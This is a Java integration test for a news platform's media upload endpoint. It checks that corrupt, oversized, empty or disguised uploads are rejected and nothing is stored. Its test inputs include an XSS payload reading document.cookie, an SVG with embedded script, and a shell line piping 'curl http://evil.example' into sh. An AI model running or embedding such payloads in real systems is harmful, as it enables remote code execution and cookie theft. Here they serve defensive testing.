package news.platform.media.upload;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalManagementPort;
import org.springframework.boot.test.web.server.LocalServerPort;

import news.platform.media.MediaApi;
import news.platform.media.TestImages;
import news.platform.media.item.MediaItems;
import news.platform.media.original.Originals;
import news.platform.testsupport.Http;
import news.platform.testsupport.ServiceIntegrationTest;

import static news.platform.media.MediaApi.EDITOR;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every kind of bad upload answers 4xx problem+json naming the field, stores nothing (no item, no
 * original, no GridFS file) and leaves the service healthy.
 */
@ServiceIntegrationTest
class BadUploadTest {

	@LocalServerPort
	int port;

	@LocalManagementPort
	int managementPort;

	@Autowired
	Originals originals;

	@Autowired
	MediaItems items;

	MediaApi api;

	long items0;

	long originals0;

	long files0;

	@BeforeEach
	void setUp() {
		this.api = new MediaApi(this.port);
		this.items0 = this.items.count();
		this.originals0 = this.originals.count();
		this.files0 = this.originals.fileCount();
	}

	@AfterEach
	void nothingStoredAndStillHealthy() {
		assertThat(this.items.count()).isEqualTo(this.items0);
		assertThat(this.originals.count()).isEqualTo(this.originals0);
		assertThat(this.originals.fileCount()).isEqualTo(this.files0);
		Http.Response health = Http.get("http://localhost:" + this.managementPort + "/actuator/health");
		assertThat(health.status()).isEqualTo(200);
	}

	@Test
	void truncatedJpeg() {
		byte[] jpeg = TestImages.jpeg(TestImages.picture(300, 200, 11));
		byte[] truncated = Arrays.copyOf(jpeg, jpeg.length * 2 / 3);
		problem(this.api.upload(EDITOR, truncated, "image/jpeg"), 400, "/problems/corrupt-image");
	}

	@Test
	void truncatedPng() {
		byte[] png = TestImages.png(TestImages.picture(200, 150, 12));
		problem(this.api.upload(EDITOR, Arrays.copyOf(png, png.length / 2), "image/png"), 400,
				"/problems/corrupt-image");
	}

	@Test
	void corruptPngData() {
		byte[] png = TestImages.corruptPng(TestImages.png(TestImages.picture(200, 150, 13)));
		problem(this.api.upload(EDITOR, png, "image/png"), 400, "/problems/corrupt-image");
	}

	@Test
	void jpegWithGarbageInsteadOfHeaders() {
		byte[] garbage = new byte[4000];
		new java.util.Random(3).nextBytes(garbage);
		garbage[0] = (byte) 0xFF;
		garbage[1] = (byte) 0xD8;
		garbage[2] = (byte) 0xFF;
		garbage[3998] = (byte) 0xFF;
		garbage[3999] = (byte) 0xD9;
		problem(this.api.upload(EDITOR, garbage, "image/jpeg"), 400, "/problems/corrupt-image");
	}

	@Test
	void pngClaimingTenBillionPixelsIsRefusedBeforeDecoding() {
		JsonNode problem = problem(this.api.upload(EDITOR, TestImages.pngClaiming(100_000, 100_000), "image/png"),
				413, "/problems/too-many-pixels");
		assertThat(problem.path("detail").asString()).contains("100000×100000");
	}

	@Test
	void htmlWithAnImageName() {
		byte[] html = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
			.getBytes(StandardCharsets.UTF_8);
		problem(this.api.uploadMultipart(EDITOR, html, "cat.jpg", "image/jpeg"), 415, "/problems/unsupported-media-type");
	}

	@Test
	void scriptWithAnImageName() {
		byte[] script = "#!/bin/sh\ncurl http://evil.example | sh\n".getBytes(StandardCharsets.UTF_8);
		problem(this.api.uploadMultipart(EDITOR, script, "photo.png", "image/png"), 415,
				"/problems/unsupported-media-type");
	}

	@Test
	void svgWithScript() {
		byte[] svg = """
				<?xml version="1.0"?>
				<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>
				""".getBytes(StandardCharsets.UTF_8);
		problem(this.api.upload(EDITOR, svg, "image/svg+xml"), 415, "/problems/unsupported-media-type");
		problem(this.api.uploadMultipart(EDITOR, svg, "logo.svg", "image/svg+xml"), 415,
				"/problems/unsupported-media-type");
	}

	@Test
	void zeroBytes() {
		problem(this.api.upload(EDITOR, new byte[0], "image/jpeg"), 400, "/problems/empty-upload");
		problem(this.api.uploadMultipart(EDITOR, new byte[0], "empty.jpg", "image/jpeg"), 400,
				"/problems/empty-upload");
	}

	@Test
	void largerThanTheLimitByContentLength() {
		// the test profile's limit is 1 MB
		byte[] big = new byte[1024 * 1024 + 1];
		System.arraycopy(TestImages.jpeg(TestImages.picture(10, 10, 1)), 0, big, 0, 100);
		problem(this.api.upload(EDITOR, big, "image/jpeg"), 413, "/problems/payload-too-large");
	}

	@Test
	void largerThanTheLimitWhileStreaming() {
		byte[] big = new byte[1024 * 1024 + 1];
		System.arraycopy(TestImages.jpeg(TestImages.picture(10, 10, 1)), 0, big, 0, 100);
		problem(this.api.uploadChunked(EDITOR, () -> new ByteArrayInputStream(big)), 413,
				"/problems/payload-too-large");
	}

	@Test
	void largerThanTheLimitAsMultipart() {
		byte[] big = new byte[1024 * 1024 + 1];
		System.arraycopy(TestImages.jpeg(TestImages.picture(10, 10, 1)), 0, big, 0, 100);
		problem(this.api.uploadMultipart(EDITOR, big, "big.jpg", "image/jpeg"), 413, "/problems/payload-too-large");
	}

	@Test
	void malformedMultipart() {
		MediaApi.Response response = this.api.send("POST", "/api/v1/media",
				java.net.http.HttpRequest.BodyPublishers.ofString("--x\r\nnot a part"), "Authorization",
				"Bearer " + EDITOR, "Content-Type", "multipart/form-data; boundary=zzz");
		problem(response, 400, "/problems/missing-parameter");
	}

	static JsonNode problem(MediaApi.Response response, int status, String type) {
		assertThat(response.status()).as(response.text()).isEqualTo(status);
		assertThat(response.header("Content-Type")).startsWith("application/problem+json");
		JsonNode problem = response.json();
		assertThat(problem.path("type").asString()).as(response.text()).isEqualTo(type);
		assertThat(problem.path("status").asInt()).isEqualTo(status);
		assertThat(problem.path("traceId").asString()).matches("[0-9a-f]{32}");
		if (!type.equals("/problems/payload-too-large") || problem.has("errors")) {
			assertThat(problem.path("errors").path(0).path("field").asString()).isEqualTo("file");
		}
		return problem;
	}

}
